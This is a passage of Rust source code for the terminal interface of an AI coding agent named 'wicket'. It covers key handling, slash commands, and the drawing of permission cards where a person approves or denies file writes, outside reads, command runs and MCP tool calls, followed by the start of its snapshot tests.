//! The UI's state and what each key does; no terminal here, so every screen
//! can be drawn on a test backend. The run loop feeds it the session's
//! events, keys and text pieces, and carries out the [`Action`]s it returns
//! through the session manager.

use ratatui::Frame;
use ratatui::crossterm::event::{KeyCode, KeyEvent, KeyEventKind, KeyModifiers, MouseEventKind};
use ratatui::layout::{Constraint, Layout, Rect};
use ratatui::style::{Color, Modifier, Style};
use ratatui::text::{Line, Span};
use ratatui::widgets::{Block, Borders, Clear, Paragraph, Wrap};
use wicket_protocol::text::{mark_blank_runs, visible, visible_line};
use wicket_protocol::{
    Answer, Card, CardId, CardKind, Event, EventBody, McpCard, RunCard, SessionId, WriteCard,
};

use crate::composer::Composer;
use crate::transcript::{Transcript, card_summary};
use wicket_core::manager::RewindTo;

/// What the run loop must do for a key.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Action {
    /// Nothing.
    None,
    /// Send a message (starts a turn, or queues behind the running one).
    Send(String),
    /// Answer the open card.
    Answer {
        /// The card.
        card: CardId,
        /// The answer.
        answer: Answer,
        /// With `allow_always` on a run card: the argv prefix its rule was widened to.
        widened: Option<Vec<String>>,
    },
    /// List the rules in force and the session's grants (`/grants`).
    Grants,
    /// Take back a session grant or a saved rule (`/grants revoke ID`).
    Revoke(String),
    /// Reply to the open question.
    Reply {
        /// The question.
        question: String,
        /// The reply.
        text: String,
    },
    /// Cancel the running turn.
    Cancel,
    /// Leave (exit 0).
    Quit,
    /// Start a new session in the same workspace.
    NewSession,
    /// Show the session picker.
    ListSessions,
    /// Open this session.
    OpenSession(SessionId),
    /// Use this model from the next turn on.
    SetModel(String),
    /// Compact the conversation now.
    Compact,
    /// Show the turns and checkpoints to rewind to (`/rewind`).
    RewindList,
    /// Show what a rewind would change, and ask (`/rewind undo`, or a pick).
    RewindPlan(RewindTo),
    /// Rewind (confirmed).
    Rewind(RewindTo),
}

/// What a line of the picker stands for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Pick {
    /// A session to open.
    Session(String),
    /// A point to rewind to: its plan is shown next.
    Rewind(RewindTo),
    /// The rewind shown: do it.
    Confirm(RewindTo),
    /// Nothing.
    Cancel,
}

/// A card on screen.
#[derive(Debug, Clone)]
pub struct CardView {
    card: Card,
    /// Keys count only once this is true: after the card was drawn and
    /// everything typed before it was thrown away.
    armed: bool,
    /// The flush that arms it, once asked for.
    epoch: Option<u64>,
    scroll: u16,
    /// How many of a run card's argv words `[a]lways` saves as a prefix
    /// (`<` and `>` change it); `None` saves the exact argv.
    prefix: Option<usize>,
}

impl CardView {
    /// The rule `[a]lways` would save now, as the person widened it.
    fn always(&self) -> Option<wicket_protocol::RuleSpec> {
        let always = self.card.always.as_deref()?.clone();
        Some(match self.widened() {
            Some(prefix) => always.widened(prefix),
            None => always,
        })
    }

    fn widened(&self) -> Option<Vec<String>> {
        let (CardKind::Run(run), Some(words)) = (&self.card.kind, self.prefix) else {
            return None;
        };
        Some(run.argv[..words.min(run.argv.len())].to_vec())
    }

    /// `<` widens the rule by a word (to the argv's first word at most),
    /// `>` narrows it back, to the exact argv at the end.
    fn widen(&mut self, wider: bool) {
        let CardKind::Run(run) = &self.card.kind else {
            return;
        };
        let words = run.argv.len();
        // exact argv → its every word as a prefix (more arguments allowed)
        // → one word fewer … → the program alone.
        self.prefix = match (self.prefix, wider) {
            (None, true) => Some(words),
            (Some(kept), true) => Some(kept.saturating_sub(1).max(1)),
            (Some(kept), false) if kept >= words => None,
            (Some(kept), false) => Some(kept + 1),
            (None, false) => None,
        };
    }
}

/// What has the keyboard.
#[derive(Debug, Clone)]
enum Focus {
    Input,
    Card(Box<CardView>),
    Question {
        id: String,
    },
    Picker {
        items: Vec<(Pick, String)>,
        selected: usize,
        title: &'static str,
    },
}

/// Totals for the status line.
#[derive(Debug, Default, Clone, Copy)]
struct Totals {
    input: u64,
    output: u64,
    cost: Option<f64>,
    context: Option<f64>,
    /// The last reply's server reported no usage.
    unreported: bool,
}

/// The whole UI.
pub struct App {
    session: String,
    workspace: String,
    model: Option<String>,
    /// Why no turn can run (no model): said on the first screen.
    model_problem: Option<String>,
    transcript: Transcript,
    composer: Composer,
    history: Vec<String>,
    recall: Option<usize>,
    focus: Focus,
    running: bool,
    queued: usize,
    totals: Totals,
    streaming: String,
    spinner: usize,
    next_epoch: u64,
    /// Rows and columns of the transcript when last drawn.
    view: (u16, u16),
    /// Whether the terminal reports Shift+Enter apart from Enter.
    enhanced_keys: bool,
}

const SPINNER: [&str; 4] = ["⠋", "⠙", "⠸", "⠴"];
const HELP: &str = "Enter sends · Shift+Enter, Alt+Enter or Ctrl+J: new line · Up/Down: earlier messages · PgUp/PgDn, Home/End, wheel: scroll · Ctrl+O: expand calls · Esc or Ctrl+C: cancel the turn · Ctrl+D on an empty line, or /quit: leave\n/new · /sessions · /model PROVIDER:NAME · /compact · /grants · /grants revoke ID · /rewind · /rewind undo · /help · /quit\nOn a card: o once · s session · a always (saves a rule; < widens a command to fewer words, > narrows it) · d deny";

impl App {
    /// The UI for `session` in `workspace`.
    pub fn new(
        session: &str,
        workspace: &str,
        model: Option<String>,
        model_problem: Option<String>,
        enhanced_keys: bool,
    ) -> App {
        let mut app = App {
            session: session.to_string(),
            workspace: workspace.to_string(),
            model,
            model_problem,
            transcript: Transcript::default(),
            composer: Composer::default(),
            history: Vec::new(),
            recall: None,
            focus: Focus::Input,
            running: false,
            queued: 0,
            totals: Totals::default(),
            streaming: String::new(),
            spinner: 0,
            next_epoch: 0,
            view: (80, 20),
            enhanced_keys,
        };
        app.welcome();
        app
    }

    fn welcome(&mut self) {
        let bold = Style::new().add_modifier(Modifier::BOLD);
        let mut lines = vec![
            Line::from(vec![
                Span::styled("wicket", bold),
                Span::raw(" — a conversation with the gate"),
            ]),
            Line::from(format!("workspace  {}", visible_line(&self.workspace))),
            Line::from(format!("session    {}", visible_line(&self.session))),
            Line::from(format!(
                "model      {}",
                self.model
                    .as_deref()
                    .map_or("none".to_string(), visible_line)
            )),
        ];
        if let Some(problem) = &self.model_problem {
            lines.push(Line::styled(
                format!("no model: {}", visible_line(problem)),
                Style::new().fg(Color::Red),
            ));
            lines.push(Line::styled(
                "fix it with: /model openai:gpt-4o (or anthropic:…, ollama:…), or model = \"…\" in $WICKET_HOME/config.toml",
                Style::new().fg(Color::Yellow),
            ));
        }
        lines.push(Line::styled(
            "/help for keys and commands",
            Style::new().fg(Color::DarkGray),
        ));
        lines.push(Line::default());
        self.transcript.note(lines);
    }

    /// Whether the terminal tells Shift+Enter from Enter (the input's hint).
    pub fn set_enhanced_keys(&mut self, enhanced: bool) {
        self.enhanced_keys = enhanced;
    }

    /// Takes one event of the session.
    pub fn on_event(&mut self, event: &Event) {
        self.transcript.add(event);
        match &event.body {
            EventBody::UserMessage { .. } => {
                self.running = true;
                self.queued = self.queued.saturating_sub(1);
            }
            EventBody::Queued { .. } => self.queued += 1,
            EventBody::AssistantMessage { usage, .. } => {
                self.streaming.clear();
                self.totals.unreported = usage.is_none();
                if let Some(usage) = usage {
                    self.totals.input += usage.input_tokens;
                    self.totals.output += usage.output_tokens;
                    if let Some(cost) = usage.cost_usd {
                        *self.totals.cost.get_or_insert(0.0) += cost;
                    }
                    if let Some(context) = usage.context_used_percent {
                        self.totals.context = Some(context);
                    }
                }
            }
            EventBody::Card { card, .. } => {
                self.focus = Focus::Card(Box::new(CardView {
                    card: card.clone(),
                    armed: false,
                    epoch: None,
                    scroll: 0,
                    prefix: None,
                }));
            }
            EventBody::Question { id, .. } => self.focus = Focus::Question { id: id.clone() },
            EventBody::Answer { .. } | EventBody::Reply { .. } => self.focus = Focus::Input,
            EventBody::TurnEnded { .. } => self.end_of_turn(),
            EventBody::SessionStarted { .. }
            | EventBody::Result { .. }
            | EventBody::Cancelled {}
            | EventBody::Interrupted { .. }
            | EventBody::ToolCall { .. }
            | EventBody::ToolResult { .. }
            | EventBody::Hook { .. }
            | EventBody::Retry { .. }
            | EventBody::Compacted { .. }
            | EventBody::Notice { .. }
            | EventBody::Checkpoint { .. }
            | EventBody::Rewound { .. }
            | EventBody::Mcp { .. }
            | EventBody::Error { .. }
            | EventBody::Unreadable { .. } => {}
        }
    }

    fn end_of_turn(&mut self) {
        self.streaming.clear();
        if self.queued == 0 {
            self.running = false;
        }
        if matches!(self.focus, Focus::Card(_) | Focus::Question { .. }) {
            self.focus = Focus::Input;
        }
    }

    /// A piece of the reply as it streams in.
    pub fn on_text(&mut self, piece: &str) {
        self.streaming.push_str(piece);
    }

    /// The spinner moves on.
    pub fn tick(&mut self) -> bool {
        if self.running {
            self.spinner = (self.spinner + 1) % SPINNER.len();
            return true;
        }
        false
    }

    /// A card that is drawn and not armed yet needs the typed-ahead input
    /// thrown away: the flush to ask for, once.
    pub fn flush_needed(&mut self) -> Option<u64> {
        let Focus::Card(view) = &mut self.focus else {
            return None;
        };
        if view.armed || view.epoch.is_some() {
            return None;
        }
        self.next_epoch += 1;
        view.epoch = Some(self.next_epoch);
        Some(self.next_epoch)
    }

    /// The flush `epoch` is done: the card takes keys from now on.
    pub fn flushed(&mut self, epoch: u64) {
        if let Focus::Card(view) = &mut self.focus
            && view.epoch == Some(epoch)
        {
            view.armed = true;
        }
    }

    /// Shows the session picker.
    pub fn pick_session(&mut self, sessions: Vec<(String, String)>) {
        if sessions.is_empty() {
            self.transcript
                .note(vec![Line::from("there are no sessions yet")]);
            return;
        }
        let items = sessions
            .into_iter()
            .map(|(id, label)| (Pick::Session(id), label))
            .collect();
        self.pick(items, " sessions: Enter opens, Esc closes ");
    }

    /// Shows a picker of `items` (the last one selected: the latest point).
    pub fn pick(&mut self, items: Vec<(Pick, String)>, title: &'static str) {
        if items.is_empty() {
            return;
        }
        self.focus = Focus::Picker {
            selected: match items.first() {
                Some((Pick::Session(_), _)) => 0,
                _ => items.len() - 1,
            },
            items,
            title,
        };
    }

    /// Says something of the UI's own in the transcript.
    pub fn say(&mut self, text: &str, color: Color) {
        self.transcript.note(
            visible(text)
                .lines()
                .map(|line| Line::styled(line.to_string(), Style::new().fg(color)))
                .collect(),
        );
        self.transcript.end();
    }

    /// The model the next turn uses.
    pub fn set_model(&mut self, model: &str) {
        self.model = Some(model.to_string());
        self.model_problem = None;
    }

    /// A paste: into the input, never sent.
    pub fn on_paste(&mut self, text: &str) {
        if matches!(self.focus, Focus::Input | Focus::Question { .. }) {
            self.composer
                .insert(&text.replace("\r\n", "\n").replace('\r', "\n"));
        }
    }

    /// The mouse wheel scrolls the transcript (or the card's diff).
    pub fn on_mouse(&mut self, kind: MouseEventKind) {
        let rows = match kind {
            MouseEventKind::ScrollUp => -3,
            MouseEventKind::ScrollDown => 3,
            _ => return,
        };
        if let Focus::Card(view) = &mut self.focus {
            view.scroll = view.scroll.saturating_add_signed(rows as i16);
            return;
        }
        self.transcript.scroll_by(rows, self.view.1, self.view.0);
    }

    /// One key.
    pub fn on_key(&mut self, key: KeyEvent) -> Action {
        if key.kind == KeyEventKind::Release {
            return Action::None;
        }
        let control = key.modifiers.contains(KeyModifiers::CONTROL);
        // Keys that work whatever has focus.
        match key.code {
            KeyCode::Char('c') if control => return self.cancel_or_nothing(),
            KeyCode::Esc if !matches!(self.focus, Focus::Picker { .. }) => {
                return self.cancel_or_nothing();
            }
            KeyCode::PageUp => {
                return self.scroll(-i32::from(self.view.0.saturating_sub(2).max(1)));
            }
            KeyCode::PageDown => {
                return self.scroll(i32::from(self.view.0.saturating_sub(2).max(1)));
            }
            KeyCode::Home if !control => {
                self.transcript.home();
                return Action::None;
            }
            KeyCode::End if !control => {
                self.transcript.end();
                return Action::None;
            }
            KeyCode::Char('o') if control => {
                self.transcript.expanded = !self.transcript.expanded;
                return Action::None;
            }
            _ => {}
        }
        match &mut self.focus {
            Focus::Card(view) => {
                // Nothing typed before the card was drawn answers it.
                if !view.armed {
                    return Action::None;
                }
                let answer = match key.code {
                    KeyCode::Char('o') => Answer::AllowOnce,
                    KeyCode::Char('s') => Answer::AllowSession,
                    KeyCode::Char('a') if view.card.always.is_some() => Answer::AllowAlways,
                    KeyCode::Char('d') => Answer::Deny,
                    KeyCode::Char(key @ ('<' | '>')) => {
                        view.widen(key == '<');
                        return Action::None;
                    }
                    KeyCode::Up | KeyCode::Char('k') => {
                        view.scroll = view.scroll.saturating_sub(1);
                        return Action::None;
                    }
                    KeyCode::Down | KeyCode::Char('j') => {
                        view.scroll = view.scroll.saturating_add(1);
                        return Action::None;
                    }
                    _ => return Action::None,
                };
                Action::Answer {
                    card: view.card.id.clone(),
                    answer,
                    widened: (answer == Answer::AllowAlways)
                        .then(|| view.widened())
                        .flatten(),
                }
            }
            Focus::Picker {
                items, selected, ..
            } => match key.code {
                KeyCode::Up => {
                    *selected = selected.saturating_sub(1);
                    Action::None
                }
                KeyCode::Down => {
                    *selected = (*selected + 1).min(items.len().saturating_sub(1));
                    Action::None
                }
                KeyCode::Enter => {
                    let picked = items.get(*selected).map(|(pick, _)| pick.clone());
                    self.focus = Focus::Input;
                    match picked {
                        Some(Pick::Session(id)) => Action::OpenSession(SessionId::from(id)),
                        Some(Pick::Rewind(to)) => Action::RewindPlan(to),
                        Some(Pick::Confirm(to)) => Action::Rewind(to),
                        Some(Pick::Cancel) | None => Action::None,
                    }
                }
                KeyCode::Esc => {
                    self.focus = Focus::Input;
                    Action::None
                }
                _ => Action::None,
            },
            Focus::Input | Focus::Question { .. } => self.edit(key),
        }
    }

    fn cancel_or_nothing(&mut self) -> Action {
        if self.running {
            Action::Cancel
        } else {
            Action::None
        }
    }

    fn scroll(&mut self, rows: i32) -> Action {
        if let Focus::Card(view) = &mut self.focus {
            view.scroll = view
                .scroll
                .saturating_add_signed(rows.clamp(-1000, 1000) as i16);
        } else {
            self.transcript.scroll_by(rows, self.view.1, self.view.0);
        }
        Action::None
    }

    fn edit(&mut self, key: KeyEvent) -> Action {
        let control = key.modifiers.contains(KeyModifiers::CONTROL);
        let newline = key
            .modifiers
            .intersects(KeyModifiers::SHIFT | KeyModifiers::ALT | KeyModifiers::CONTROL);
        match key.code {
            KeyCode::Enter if newline => self.composer.insert("\n"),
            KeyCode::Char('j') if control => self.composer.insert("\n"),
            KeyCode::Enter => return self.submit(),
            KeyCode::Char('d') if control => {
                if self.composer.is_empty() {
                    return Action::Quit;
                }
                self.composer.delete();
            }
            KeyCode::Char('a') if control => self.composer.line_start(),
            KeyCode::Char('e') if control => self.composer.line_end(),
            KeyCode::Char('u') if control => self.composer.kill_to_start(),
            KeyCode::Char(c) if !control => self.composer.insert(c.encode_utf8(&mut [0; 4])),
            KeyCode::Backspace => self.composer.backspace(),
            KeyCode::Delete => self.composer.delete(),
            KeyCode::Left => self.composer.left(),
            KeyCode::Right => self.composer.right(),
            KeyCode::Up => self.recall(-1),
            KeyCode::Down => self.recall(1),
            KeyCode::Tab => self.composer.insert("    "),
            _ => {}
        }
        Action::None
    }

    /// Up/Down walk the messages sent before.
    fn recall(&mut self, step: i32) {
        if self.history.is_empty() {
            return;
        }
        let next = match (self.recall, step < 0) {
            (None, true) => Some(self.history.len() - 1),
            (None, false) => None,
            (Some(at), true) => Some(at.saturating_sub(1)),
            (Some(at), false) if at + 1 < self.history.len() => Some(at + 1),
            (Some(_), false) => None,
        };
        self.recall = next;
        match next {
            Some(at) => {
                let text = self.history[at].clone();
                self.composer.set(&text);
            }
            None => {
                self.composer.take();
            }
        }
    }

    fn submit(&mut self) -> Action {
        let text = self.composer.text().trim_end().to_string();
        if text.is_empty() {
            return Action::None;
        }
        self.composer.take();
        self.recall = None;
        if self.history.last() != Some(&text) {
            self.history.push(text.clone());
        }
        self.transcript.end();
        if let Focus::Question { id } = &self.focus {
            return Action::Reply {
                question: id.clone(),
                text,
            };
        }
        if let Some(command) = text.strip_prefix('/') {
            let mut words = command.split_whitespace();
            return match (words.next(), words.next()) {
                (Some("quit" | "exit"), _) => Action::Quit,
                (Some("new"), _) => Action::NewSession,
                (Some("sessions"), _) => Action::ListSessions,
                (Some("compact"), _) => Action::Compact,
                (Some("rewind"), None) => Action::RewindList,
                (Some("rewind"), Some("undo")) => Action::RewindPlan(RewindTo::Undo),
                (Some("rewind"), Some(seq)) => match seq.parse() {
                    Ok(seq) => Action::RewindPlan(RewindTo::Seq(seq)),
                    Err(_) => {
                        self.say(
                            "/rewind lists the points to go back to; /rewind SEQ goes to before event SEQ; /rewind undo takes the last rewind back",
                            Color::Yellow,
                        );
                        Action::None
                    }
                },
                (Some("grants"), None) => Action::Grants,
                (Some("grants"), Some("revoke")) => match words.next() {
                    Some(id) => Action::Revoke(id.to_string()),
                    None => {
                        self.say(
                            "give the id: /grants revoke ID (/grants lists them)",
                            Color::Yellow,
                        );
                        Action::None
                    }
                },
                (Some("model"), Some(model)) => Action::SetModel(model.to_string()),
                (Some("model"), None) => {
                    self.say("give the model: /model PROVIDER:NAME, e.g. /model anthropic:claude-sonnet-4-5", Color::Yellow);
                    Action::None
                }
                (Some("help"), _) => {
                    self.say(HELP, Color::Gray);
                    Action::None
                }
                _ => {
                    self.say(
                        &format!("there is no command /{command}; /help lists them"),
                        Color::Yellow,
                    );
                    Action::None
                }
            };
        }
        Action::Send(text)
    }

    fn state(&self) -> String {
        match &self.focus {
            Focus::Card(_) => "waiting on a card".into(),
            Focus::Question { .. } => "waiting on your reply".into(),
            _ if self.running && self.queued > 0 => format!("running, queued {}", self.queued),
            _ if self.running => "running".into(),
            _ => "idle".into(),
        }
    }

    fn status_line(&self) -> Line<'static> {
        let mut text = format!(
            " {} · {} · {} · {} in / {} out",
            visible_line(&self.session),
            self.model
                .as_deref()
                .map_or("no model".to_string(), visible_line),
            self.state(),
            self.totals.input,
            self.totals.output
        );
        if let Some(cost) = self.totals.cost {
            text.push_str(&format!(" · ${cost:.4}"));
        }
        if self.totals.unreported {
            text.push_str(" · usage not reported");
        } else if let Some(context) = self.totals.context {
            text.push_str(&format!(" · context {context:.0}%"));
        }
        let mut spans = Vec::new();
        if self.running {
            spans.push(Span::styled(
                format!(" {}", SPINNER[self.spinner]),
                Style::new().fg(Color::Cyan),
            ));
        }
        spans.push(Span::raw(text));
        Line::from(spans).style(Style::new().bg(Color::DarkGray).fg(Color::White))
    }

    /// Draws everything.
    pub fn render(&mut self, frame: &mut Frame<'_>) {
        let area = frame.area();
        let input_rows = match &self.focus {
            Focus::Card(_) => 0,
            _ => (self.composer.lines() as u16).clamp(1, 6) + 2,
        };
        let card_rows = match &self.focus {
            Focus::Card(_) => (area.height * 3 / 5)
                .max(8)
                .min(area.height.saturating_sub(2)),
            Focus::Picker { items, .. } => (items.len() as u16 + 2).min(area.height / 2),
            _ => 0,
        };
        let [transcript, streaming, panel, input, status] = Layout::vertical([
            Constraint::Min(1),
            Constraint::Length(u16::from(!self.streaming.is_empty()) * 3),
            Constraint::Length(card_rows),
            Constraint::Length(input_rows),
            Constraint::Length(1),
        ])
        .areas(area);
        self.view = (transcript.height, transcript.width);
        self.transcript.render(transcript, frame.buffer_mut());
        if !self.streaming.is_empty() {
            let tail: Vec<&str> = self.streaming.lines().collect();
            let shown = tail[tail.len().saturating_sub(3)..].join("\n");
            frame.render_widget(
                Paragraph::new(visible(&shown))
                    .style(Style::new().fg(Color::Gray))
                    .wrap(Wrap { trim: false }),
                streaming,
            );
        }
        match &mut self.focus {
            Focus::Card(view) => {
                let most = render_card(frame, panel, view);
                view.scroll = view.scroll.min(most);
            }
            Focus::Picker {
                items,
                selected,
                title,
            } => {
                // The selected line stays in view in a long list.
                let rows = usize::from(panel.height.saturating_sub(2)).max(1);
                let skip = selected.saturating_sub(rows - 1);
                let lines: Vec<Line<'static>> = items
                    .iter()
                    .skip(skip)
                    .enumerate()
                    .map(|(i, (_, label))| {
                        let style = if i + skip == *selected {
                            Style::new().add_modifier(Modifier::REVERSED)
                        } else {
                            Style::new()
                        };
                        Line::styled(visible_line(label), style)
                    })
                    .collect();
                frame.render_widget(Clear, panel);
                frame.render_widget(
                    Paragraph::new(lines)
                        .block(Block::default().borders(Borders::ALL).title(*title)),
                    panel,
                );
            }
            Focus::Input | Focus::Question { .. } => {}
        }
        if input_rows > 0 {
            self.render_input(frame, input);
        }
        frame.render_widget(Paragraph::new(self.status_line()), status);
    }

    fn render_input(&self, frame: &mut Frame<'_>, area: Rect) {
        let newline = if self.enhanced_keys {
            "Shift+Enter"
        } else {
            "Alt+Enter"
        };
        let title = match &self.focus {
            Focus::Question { .. } => " your reply to the question: Enter sends ".to_string(),
            _ if self.running => format!(
                " a message now is queued behind the turn · Esc cancels the turn · {newline}: new line "
            ),
            _ => format!(" message · Enter sends · {newline}: new line · /help "),
        };
        let block = Block::default()
            .borders(Borders::ALL)
            .title(title)
            .border_style(Style::new().fg(Color::DarkGray));
        let inner = block.inner(area);
        frame.render_widget(
            Paragraph::new(visible(self.composer.text())).block(block),
            area,
        );
        let (line, column) = self.composer.position();
        let x = inner.x + (column as u16).min(inner.width.saturating_sub(1));
        let y = inner.y + (line as u16).min(inner.height.saturating_sub(1));
        frame.set_cursor_position((x, y));
    }
}

/// Draws a card; the furthest it can scroll.
fn render_card(frame: &mut Frame<'_>, area: Rect, view: &CardView) -> u16 {
    let card = &view.card;
    let bold = Style::new().add_modifier(Modifier::BOLD);
    let tool = visible_line(&card.tool);
    let mut lines = match &card.kind {
        CardKind::Write(write) => write_lines(&tool, write, bold),
        CardKind::OutsideRead(read) => {
            let what = match read.reach {
                wicket_protocol::Reach::Read => "read a file",
                wicket_protocol::Reach::List => "list the names in a folder",
                wicket_protocol::Reach::Grep => "search every file below a path",
            };
            vec![
                Line::styled(
                    format!("{tool} wants to {what} outside the workspace"),
                    bold,
                ),
                Line::from(visible_line(&read.path)),
            ]
        }
        CardKind::Run(run) => run_lines(run, bold),
        CardKind::Mcp(mcp) => mcp_lines(&tool, mcp, bold),
    };
    if let Some(always) = view.always() {
        let widen = if matches!(card.kind, CardKind::Run(_)) {
            " (< widens it to fewer words, > narrows it)"
        } else {
            ""
        };
        lines.push(Line::styled(
            format!(
                "[a]lways saves: {}{widen}",
                visible_line(&always.describe())
            ),
            Style::new().fg(Color::DarkGray),
        ));
    }
    let keys = match (view.armed, card.always.is_some()) {
        (true, true) => {
            " [o]nce · [s]ession · [a]lways · [d]eny · ↑↓ scroll · Esc cancels the turn "
        }
        (true, false) => " [o]nce · [s]ession · [d]eny · ↑↓ scroll · Esc cancels the turn ",
        (false, _) => " … ",
    };
    // Every line whole: a long run of blanks shows as ␠×N, and what does
    // not fit the panel's width wraps onto the next rows, never off the edge.
    let lines: Vec<Line<'static>> = lines.into_iter().map(marked).collect();
    let paragraph = Paragraph::new(lines).wrap(Wrap { trim: false });
    let rows = paragraph.line_count(area.width.saturating_sub(2));
    let most = u16::try_from(rows)
        .unwrap_or(u16::MAX)
        .saturating_sub(area.height.saturating_sub(2));
    frame.render_widget(Clear, area);
    frame.render_widget(
        paragraph.scroll((view.scroll.min(most), 0)).block(
            Block::default()
                .borders(Borders::ALL)
                .border_style(Style::new().fg(Color::Yellow))
                .title(fitted_title(card, area.width))
                .title_bottom(keys),
        ),
        area,
    );
    most
}

/// The card's title, cut with a `…` where the panel is narrower (the
/// card's body below shows everything).
fn fitted_title(card: &Card, width: u16) -> String {
    let title = format!(" card: {} ", card_summary(card));
    let room = usize::from(width.saturating_sub(6));
    if Line::from(title.as_str()).width() <= room {
        return title;
    }
    let mut cut = String::new();
    for c in title.chars() {
        if Line::from(cut.as_str()).width() + 2 > room {
            break;
        }
        cut.push(c);
    }
    format!("{cut}… ")
}

/// `line` with each span's long blank runs shown as `␠×N`.
fn marked(line: Line<'static>) -> Line<'static> {
    let spans: Vec<Span<'static>> = line
        .spans
        .into_iter()
        .map(|span| Span::styled(mark_blank_runs(&span.content), span.style))
        .collect();
    Line::from(spans).style(line.style)
}

/// A write card: the path, then the diff whole, in colour.
fn write_lines(tool: &str, write: &WriteCard, bold: Style) -> Vec<Line<'static>> {
    let mut lines = vec![Line::styled(
        format!(
            "{tool} wants to write {}{}",
            visible_line(&write.path),
            write.path_note()
        ),
        bold,
    )];
    for line in visible(&write.diff).lines() {
        let color = if line.starts_with('+') && !line.starts_with("+++") {
            Color::Green
        } else if line.starts_with('-') && !line.starts_with("---") {
            Color::Red
        } else if line.starts_with("@@") {
            Color::Cyan
        } else {
            Color::Reset
        };
        lines.push(Line::styled(line.to_string(), Style::new().fg(color)));
    }
    if write.diff_truncated {
        lines.push(Line::styled(
            format!(
                "[the diff is {} bytes; the card shows its first lines]",
                write.diff_bytes
            ),
            Style::new().fg(Color::Yellow),
        ));
    }
    lines
}

/// A run card: who asks, the argv, cwd, timeout and the sandbox line.
fn run_lines(run: &RunCard, bold: Style) -> Vec<Line<'static>> {
    let who = match run.source {
        wicket_protocol::RunSource::Tool => "run wants to start a command",
        wicket_protocol::RunSource::Hook => "a hook of the workspace's wants to run",
        wicket_protocol::RunSource::Mcp => "the workspace's MCP server wants to start",
    };
    let argv: Vec<String> = run.argv.iter().map(|arg| visible_line(arg)).collect();
    let mut lines = vec![
        Line::styled(who, bold),
        Line::from(format!(
            "argv     {}",
            serde_json::to_string(&argv).unwrap_or_default()
        )),
        Line::from(format!("cwd      {}", visible_line(&run.cwd))),
    ];
    if let Some(timeout) = run.timeout_s {
        lines.push(Line::from(format!("timeout  {timeout} s")));
    }
    let mode = serde_json::to_value(run.sandbox.mode).unwrap_or_default();
    let warn = matches!(mode.as_str(), Some("off" | "unavailable"));
    let mut sandbox = format!("sandbox  {}", mode.as_str().unwrap_or("?"));
    sandbox.push_str(if run.network {
        ", network: asked for"
    } else {
        ", no network"
    });
    if let Some(note) = &run.sandbox.note {
        sandbox.push_str(&format!(" ({})", visible_line(note)));
    }
    if run.git {
        lines.push(Line::styled(
            format!("git      {}", wicket_protocol::GIT_WRITE_WARNING),
            Style::new().fg(Color::Yellow),
        ));
    }
    lines.push(Line::styled(
        sandbox,
        Style::new().fg(if warn { Color::Red } else { Color::Reset }),
    ));
    for layer in &run.sandbox.layers {
        lines.push(Line::from(format!("         · {}", visible_line(layer))));
    }
    lines
}

/// An MCP card: the server, the tool, its arguments and the server's claims.
fn mcp_lines(tool: &str, mcp: &McpCard, bold: Style) -> Vec<Line<'static>> {
    let mut lines = vec![Line::styled(
        format!(
            "the MCP server {} wants to run its tool {tool}",
            visible_line(&mcp.server)
        ),
        bold,
    )];
    for line in visible(&mcp.arguments_text).lines() {
        lines.push(Line::from(format!("  {line}")));
    }
    if mcp.arguments_truncated {
        lines.push(Line::styled(
            "[the arguments are longer; the card shows their start]",
            Style::new().fg(Color::Yellow),
        ));
    }
    if let Some(annotations) = &mcp.annotations {
        lines.push(Line::styled(
            format!(
                "the server says (a claim, not a permission): {}",
                visible_line(&annotations.to_string())
            ),
            Style::new().fg(Color::DarkGray),
        ));
    }
    lines
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use super::*;
    use ratatui::Terminal;
    use ratatui::backend::TestBackend;
    use serde_json::json;
    use wicket_protocol::{
        ErrorKind, HookOutcome, McpState, Reach, ReadFileOutput, RunCard, RunOutput, RunSource,
        SandboxMode, SandboxSummary, ToolOutput, TurnOutcome, Usage, WireError, WriteCard,
        WriteOutput,
    };

    fn event(seq: u64, body: EventBody) -> Event {
        Event {
            seq,
            ts: "2026-12-03T00:00:00Z".into(),
            body,
        }
    }

    fn ended(outcome: TurnOutcome) -> EventBody {
        EventBody::TurnEnded { outcome }
    }

    fn app() -> App {
        App::new(
            "20261203-120000-abcdef12",
            "/home/dev/project",
            Some("anthropic:claude-sonnet-4-5".into()),
            None,
            false,
        )
    }

    fn screen(app: &mut App, width: u16, height: u16) -> String {
        let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
        terminal.draw(|frame| app.render(frame)).unwrap();
        terminal.backend().to_string()
    }

    fn key(code: KeyCode) -> KeyEvent {
        KeyEvent::new(code, KeyModifiers::NONE)
    }

    fn call(seq: u64, id: &str, name: &str, arguments: serde_json::Value) -> Event {
        event(
            seq,
            EventBody::ToolCall {
                call_id: id.into(),
                name: name.into(),
                arguments,
                auto_allowed: None,
                allowed_by: None,
            },
        )
    }

    fn run_card(id: &str) -> Card {
        Card {
            id: id.into(),
            tool: "run".into(),
            kind: CardKind::Run(RunCard {
                argv: vec!["cargo".into(), "test".into()],
                cwd: ".".into(),
                timeout_s: Some(300),
                network: false,
                git: false,
                sandbox: SandboxSummary {
                    mode: SandboxMode::WorkspaceWrite,
                    network: false,
                    layers: Vec::new(),
                    note: None,
                },
                source: RunSource::Tool,
            }),
            no_checkpoint: None,
            always: Some(Box::new(
                serde_json::from_value(serde_json::json!({
                    "action": "allow", "tool": "run", "argv": ["cargo", "test"],
                    "cwd": ".", "workspace": "/home/u/proj"
                }))
                .unwrap(),
            )),
        }
    }

    #[test]
    fn an_empty_session() {
        insta::assert_snapshot!(screen(&mut app(), 100, 16));
    }

    #[test]
    fn a_session_without_a_model_says_how_to_set_one() {
        let mut app = App::new(
            "s1",
            "/ws",
            None,
            Some("no model is configured".into()),
            false,
        );
        insta::assert_snapshot!(screen(&mut app, 100, 14));
    }

    #[test]
    fn a_transcript_with_every_event_kind() {
        let mut app = app();
        let events = vec![
            event(
                1,
                EventBody::SessionStarted {
                    session: "s1".into(),
                    workspace: "/ws".into(),
                },
            ),
            event(
                2,
                EventBody::UserMessage {
                    text: "Fix the **failing** test".into(),
                },
            ),
            event(
                3,
                EventBody::AssistantMessage {
                    text:
                        "Looking at `src/lib.rs`:\n\n```rust\nfn add(a: i32) -> i32 { a + 1 }\n```"
                            .into(),
                    tool_calls: Vec::new(),
                    usage: Some(Usage {
                        input_tokens: 1200,
                        output_tokens: 80,
                        ..Usage::default()
                    }),
                    stop_reason: None,
                },
            ),
